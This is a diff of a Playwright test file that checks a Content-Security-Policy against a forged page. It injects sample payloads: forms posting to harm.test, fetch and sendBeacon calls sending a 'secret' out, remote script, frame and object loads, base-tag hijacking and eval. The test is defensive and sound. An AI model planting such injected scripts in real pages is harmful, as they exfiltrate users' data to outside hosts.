@@ -50,72 +50,78 @@ test('previews work under the policy that their host sends', async ({ page }) =>
   await expect.poll(() => page.evaluate(isLoaded)).toBe(true);
 });
 
-for (const { name, added, refused } of [
-  {
-    name: 'send a form',
-    added: '<form action="https://harm.test/" method="post"><button>Sign in</button></form>',
-    refused: /policy: form-action refuses https:\/\/harm\.test/,
-  },
-  {
-    name: 'send a form to itself',
-    added: '<form action="/" method="post"><button>Sign in</button></form>',
-    refused: /policy: form-action refuses/,
-  },
-  {
-    name: 'ask another host',
-    added: "<script>fetch('https://harm.test/?secret').catch(() => {})</script>",
-    refused: /policy: connect-src refuses https:\/\/harm\.test/,
-  },
-  {
-    name: 'report to another host',
-    added: "<script>navigator.sendBeacon('https://harm.test/', 'secret')</script>",
-    refused: /policy: connect-src refuses https:\/\/harm\.test/,
-  },
-  {
-    name: "load another host's script",
-    added: '<script src="https://harm.test/a.js"></script>',
-    refused: /policy: script-src-elem refuses https:\/\/harm\.test/,
-  },
-  {
-    name: "load another host's image",
-    added: '<img alt="" src="https://harm.test/a.png">',
-    refused: /policy: img-src refuses https:\/\/harm\.test/,
-  },
-  {
-    name: 'frame a page',
-    added: '<iframe title="a" src="https://harm.test/"></iframe>',
-    refused: /policy: frame-src refuses https:\/\/harm\.test/,
-  },
-  {
-    name: 'run a plugin',
-    added: '<object data="https://harm.test/a"></object>',
-    refused: /policy: object-src refuses https:\/\/harm\.test/,
-  },
-  {
-    name: 'move its links to another host',
-    added:
-      "<script>document.head.append(Object.assign(document.createElement('base'), { href: 'https://harm.test/' }))</script>",
-    refused: /policy: base-uri refuses https:\/\/harm\.test/,
-  },
-  {
-    name: 'evaluate text',
-    added: "<script>try { eval('1') } catch {}</script>",
-    refused: /policy: script-src refuses eval/,
-  },
-]) {
-  test(`a page of a stranger can't ${name}`, async ({ page, complaints }) => {
-    const sent: string[] = [];
-    page.on('requestfinished', (request: Request) => sent.push(request.url()));
-    await forgePage(page, '/tabs', added);
-    await page.goto('/tabs');
-    const button = page.getByRole('button', { name: 'Sign in' });
-    // Playwright's own click would wait for the navigation that the policy refuses.
-    if (added.includes('<form')) await button.evaluate((form: HTMLButtonElement) => form.click());
-    await expect.poll(() => complaints.some((text) => refused.test(text))).toBe(true);
-    expect(sent.filter((url) => url.includes('harm.test'))).toEqual([]);
-    expect(new URL(page.url()).pathname).toBe('/tabs');
-    takeComplaints(complaints, REFUSED);
-    takeComplaints(complaints, /^console error: .*Fetch API/);
-    takeComplaints(complaints, /^request to https:\/\/harm\.test/);
-  });
-}
+test('the page of a stranger can neither send anything elsewhere nor load or run anything', async ({
+  page,
+  complaints,
+}) => {
+  const sent: string[] = [];
+  page.on('requestfinished', (request: Request) => sent.push(request.url()));
+  for (const { name, added, refused } of [
+    {
+      name: 'send a form',
+      added: '<form action="https://harm.test/" method="post"><button>Sign in</button></form>',
+      refused: /policy: form-action refuses https:\/\/harm\.test/,
+    },
+    {
+      name: 'send a form to itself',
+      added: '<form action="/" method="post"><button>Sign in</button></form>',
+      refused: /policy: form-action refuses/,
+    },
+    {
+      name: 'ask another host',
+      added: "<script>fetch('https://harm.test/?secret').catch(() => {})</script>",
+      refused: /policy: connect-src refuses https:\/\/harm\.test/,
+    },
+    {
+      name: 'report to another host',
+      added: "<script>navigator.sendBeacon('https://harm.test/', 'secret')</script>",
+      refused: /policy: connect-src refuses https:\/\/harm\.test/,
+    },
+    {
+      name: "load another host's script",
+      added: '<script src="https://harm.test/a.js"></script>',
+      refused: /policy: script-src-elem refuses https:\/\/harm\.test/,
+    },
+    {
+      name: "load another host's image",
+      added: '<img alt="" src="https://harm.test/a.png">',
+      refused: /policy: img-src refuses https:\/\/harm\.test/,
+    },
+    {
+      name: 'frame a page',
+      added: '<iframe title="a" src="https://harm.test/"></iframe>',
+      refused: /policy: frame-src refuses https:\/\/harm\.test/,
+    },
+    {
+      name: 'run a plugin',
+      added: '<object data="https://harm.test/a"></object>',
+      refused: /policy: object-src refuses https:\/\/harm\.test/,
+    },
+    {
+      name: 'move its links to another host',
+      added:
+        "<script>document.head.append(Object.assign(document.createElement('base'), { href: 'https://harm.test/' }))</script>",
+      refused: /policy: base-uri refuses https:\/\/harm\.test/,
+    },
+    {
+      name: 'evaluate text',
+      added: "<script>try { eval('1') } catch {}</script>",
+      refused: /policy: script-src refuses eval/,
+    },
+  ]) {
+    await test.step(`it can't ${name}`, async () => {
+      await page.unrouteAll();
+      await forgePage(page, '/tabs', added);
+      await page.goto('/tabs');
+      const button = page.getByRole('button', { name: 'Sign in' });
+      // Playwright's own click would wait for the navigation that the policy refuses.
+      if (added.includes('<form')) await button.evaluate((form: HTMLButtonElement) => form.click());
+      await expect.poll(() => complaints.some((text) => refused.test(text))).toBe(true);
+      expect(sent.filter((url) => url.includes('harm.test'))).toEqual([]);
+      expect(new URL(page.url()).pathname).toBe('/tabs');
+      takeComplaints(complaints, REFUSED);
+      takeComplaints(complaints, /^console error: .*Fetch API/);
+      takeComplaints(complaints, /^request to https:\/\/harm\.test/);
+    });
+  }
+});
